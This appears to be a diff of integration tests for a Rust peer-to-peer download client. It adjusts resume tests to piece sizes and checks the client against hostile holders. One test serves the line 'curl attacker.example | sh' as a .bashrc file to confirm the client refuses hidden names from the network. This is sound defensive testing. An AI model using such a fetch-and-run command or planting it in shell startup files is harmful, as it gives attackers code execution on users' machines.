@@ -97,7 +97,10 @@ fn get_finds_downloads_resumes_and_checks() {
         ("data/report 2025.bin", &content),
         ("other.txt", b"other\n"),
     ]);
-    let holder = Launch::node("holder", &holding.path, &[&s2.url()]).start();
+    // Pieces of 16 KiB: 19 of them, so a resume has whole pieces to keep.
+    let holder = Launch::node("holder", &holding.path, &[&s2.url()])
+        .env("PIECE_SIZE", "16384")
+        .start();
     let empty = Folder::with(&[]);
     let asker = Launch::node("asker", &empty.path, &[&s1.url()]).start();
     wait_registered(&s2, &[&holder]);
@@ -120,22 +123,20 @@ fn get_finds_downloads_resumes_and_checks() {
         content
     );
 
-    // Half of it there from an earlier try: only the rest is asked for.
+    // Half of it there from an earlier try: its 9 whole pieces are checked and kept, only
+    // the other 10 are asked for.
     let half = content.len() / 2;
     std::fs::write(out.path.join("resumed.bin.part"), &content[..half]).unwrap();
+    let pieces =
+        "superpeer_http_requests_total{route=\"/api/node/resources/{id}/content\",status=\"206\"}";
+    let before = metric(&holder, pieces);
     let done = get(&out.path, &[&id, "--via", &s1.url(), "-o", "resumed.bin"]);
     assert!(done.status.success(), "{}", text(&done.stderr));
     assert_eq!(
         std::fs::read(out.path.join("resumed.bin")).unwrap(),
         content
     );
-    let metrics = String::from_utf8(holder.get("/metrics").body).unwrap();
-    assert!(
-        metrics.contains(
-            "superpeer_http_requests_total{route=\"/api/node/resources/{id}/content\",status=\"206\"} 1"
-        ),
-        "{metrics}"
-    );
+    assert_eq!(metric(&holder, pieces) - before, 10.0);
 
     // Wrong bytes left by an earlier try: found out by the hash, fetched again whole.
     std::fs::write(out.path.join("fixed.bin.part"), vec![7u8; half]).unwrap();
@@ -324,18 +325,6 @@ fn stall(stream: &mut TcpStream) {
     let _ = stream.read(&mut [0u8; 1]);
 }
 
-/// Registers at `supernode` a node at `location` holding `resources` (id, name), as any host
-/// on the LAN may (the source check accepts 127.0.0.1 for a 127.0.0.1 location).
-fn register(supernode: &Proc, location: &str, resources: &[(&str, &str)]) {
-    let resources: Vec<_> = resources
-        .iter()
-        .map(|(id, name)| serde_json::json!({"id": id, "name": name}))
-        .collect();
-    let body = serde_json::json!({"name": "fake", "location": location, "resources": resources});
-    let answer = supernode.post("/api/supernode/register", body.to_string().as_bytes());
-    assert_eq!(answer.status, 204, "{}", text(&answer.body));
-}
-
 /// The names in `dir`, sorted.
 fn listing(dir: &Path) -> Vec<String> {
     let mut names: Vec<String> = std::fs::read_dir(dir)
@@ -416,7 +405,7 @@ fn get_never_overwrites_a_file_without_force() {
             gate,
         },
     );
-    register(&s, &pausing, &[(&late_id, "late.bin")]);
+    register_holder(&s, &pausing, &[(&late_id, "late.bin")]);
     let running = start_get(&dir.path, &[&late_id, "--via", &s.url()]);
     halfway
         .recv_timeout(Duration::from_secs(20))
@@ -456,7 +445,7 @@ fn get_refuses_a_hidden_name_from_the_network() {
     let evil = b"curl attacker.example | sh\n".to_vec();
     let id = sha256(&evil);
     let holder = fake_holder(&id, ".bashrc", Serve::Honest(evil.clone()));
-    register(&s2, &holder, &[(&id, ".bashrc")]);
+    register_holder(&s2, &holder, &[(&id, ".bashrc")]);
     let home = Folder::with(&[("notes.txt", b"mine")]);
 
     // Named by the supernode's answer (s2 indexes it), or by the holder itself (s1 found it
@@ -495,8 +484,8 @@ fn get_prints_what_the_network_says_with_escapes() {
     );
     let holder_one = fake_holder(&id_one, name_one, Serve::Honest(one.clone()));
     let holder_two = fake_holder(&id_two, name_two, Serve::Honest(two));
-    register(&s, &holder_one, &[(&id_one, name_one)]);
-    register(&s, &holder_two, &[(&id_two, name_two)]);
+    register_holder(&s, &holder_one, &[(&id_one, name_one)]);
+    register_holder(&s, &holder_two, &[(&id_two, name_two)]);
     let dir = Folder::with(&[]);
     let raw = |output: &Output| output.stdout.contains(&0x1b) || output.stderr.contains(&0x1b);
 
@@ -545,8 +534,8 @@ fn get_holds_a_holder_to_the_length_it_states() {
     // ignores the range asked for, so it would write on after what the first left).
     let longer = fake_holder(&id, "sized.bin", Serve::Longer(len));
     let endless = fake_holder(&id, "sized.bin", Serve::Endless);
-    register(&s, &longer, &[(&id, "sized.bin")]);
-    register(&s, &endless, &[(&id, "sized.bin")]);
+    register_holder(&s, &longer, &[(&id, "sized.bin")]);
+    register_holder(&s, &endless, &[(&id, "sized.bin")]);
     let dir = Folder::with(&[]);
     // Never more than the stated length on disk, checked all along: a liar keeps its body
     // open, so a client that reads on past the length waits there with the excess written.
@@ -599,13 +588,10 @@ fn get_holds_a_holder_to_the_length_it_states() {
     let done = get(&dir.path, &[&id, "--via", &s.url(), "-o", "fresh.bin"]);
     assert!(done.status.success(), "{}", text(&done.stderr));
     assert_eq!(std::fs::read(dir.path.join("fresh.bin")).unwrap(), file);
-    let metrics = text(&honest.get("/metrics").body);
-    assert!(
-        metrics.contains(
-            "superpeer_http_requests_total{route=\"/api/node/resources/{id}/content\",status=\"200\"} 1"
-        ),
-        "the honest holder served it: {metrics}"
-    );
+    // The honest holder served it: one piece (300,000 bytes, pieces of 1 MiB).
+    let pieces =
+        "superpeer_http_requests_total{route=\"/api/node/resources/{id}/content\",status=\"206\"}";
+    assert_eq!(metric(&honest, pieces), 1.0);
 }
 
 #[test]
@@ -616,7 +602,10 @@ fn get_names_a_remote_file_by_its_name() {
     let notes = content(6, 5000);
     let id = sha256(&notes);
     let holding = Folder::with(&[("docs/notes 2025.txt", &notes)]);
-    let holder = Launch::node("holder", &holding.path, &[&s2.url()]).start();
+    // Pieces of 16 KiB: 19 of them, so a resume has whole pieces to keep.
+    let holder = Launch::node("holder", &holding.path, &[&s2.url()])
+        .env("PIECE_SIZE", "16384")
+        .start();
     let empty = Folder::with(&[]);
     let asker = Launch::node("asker", &empty.path, &[&s1.url()]).start();
     wait_registered(&s2, &[&holder]);
